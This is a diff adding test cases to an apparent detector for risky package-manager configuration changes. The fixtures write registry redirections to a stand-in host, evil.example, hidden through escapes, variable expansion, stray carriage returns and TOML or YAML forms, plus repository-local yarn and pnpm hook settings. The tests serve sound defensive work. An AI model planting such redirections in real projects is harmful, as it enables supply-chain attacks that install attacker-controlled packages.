@@ -52,6 +52,51 @@ testCheck(configurationChange, {
     },
     'a shell for scripts': { ...changed('.npmrc', '', 'script-shell=./x.sh\n'), finds: [{ rule: 'configuration-change/execution' }] },
     'a pnpmfile': { ...changed('.pnpmfile.cjs', undefined, 'module.exports = {}\n'), finds: [{ rule: 'configuration-change/execution' }] },
+    'a registry whose name is written with an escape': {
+      ...changed('.npmrc', '', '"\\u0072egistry"=evil.example\n'),
+      finds: [{ rule: 'configuration-change/registry' }],
+    },
+    'a registry whose name npm completes from a variable': {
+      ...changed('.npmrc', '', '${NOTHING?}registry=//evil.example\n'),
+      finds: [{ rule: 'configuration-change/registry' }],
+    },
+    'a registry behind a lone carriage return': {
+      ...changed('.npmrc', 'fund=false\n', 'fund=false\raudit=false\rregistry=//evil.example\n'),
+      finds: [{ rule: 'configuration-change/setting' }, { rule: 'configuration-change/registry' }],
+    },
+    'a registry as a list': { ...changed('.npmrc', '', 'registry[]=//evil.example\n'), finds: [{ rule: 'configuration-change/registry' }] },
+    'two registries that change places': {
+      ...changed('.npmrc', 'registry=//a.example\nregistry=//b.example\n', 'registry=//b.example\nregistry=//a.example\n'),
+      finds: [{ rule: 'configuration-change/registry' }],
+    },
+    'a registry in an inline table of bun': {
+      ...changed('bunfig.toml', '', 'install = { registry = "//evil.example" }\n'),
+      finds: [{ rule: 'configuration-change/registry' }],
+    },
+    'a registry under a dotted key of bun': {
+      ...changed('bunfig.toml', '', 'install.registry = "//evil.example"\n'),
+      finds: [{ rule: 'configuration-change/registry' }],
+    },
+    'an address under the registries of pnpm': {
+      ...changed('pnpm-workspace.yaml', 'registries:\n', 'registries:\n  default: https://evil.example\n'),
+      finds: [{ rule: 'configuration-change/registry' }],
+    },
+    'a registry in the flags of yarn classic': {
+      ...changed('.yarnrc', '', '--registry "//evil.example"\n'),
+      finds: [{ rule: 'configuration-change/registry' }],
+    },
+    'a yarn of the repository': {
+      ...changed('.yarnrc', '', 'yarn-path ".yarn/yarn.js"\n'),
+      finds: [{ rule: 'configuration-change/execution' }],
+    },
+    'hooks that pnpm fetches': {
+      ...changed('pnpm-workspace.yaml', '', 'configDependencies:\n'),
+      finds: [{ rule: 'configuration-change/execution' }],
+    },
+    'a workspace that came': {
+      ...changed('pnpm-workspace.yaml', 'packages:\n', "packages:\n  - 'packages/registry'\n"),
+      finds: [{ rule: 'configuration-change/setting', severity: 'note' }],
+    },
     'another setting': {
       ...changed('.npmrc', '', 'save-exact=true\n'),
       finds: [{ rule: 'configuration-change/setting', severity: 'note' }],
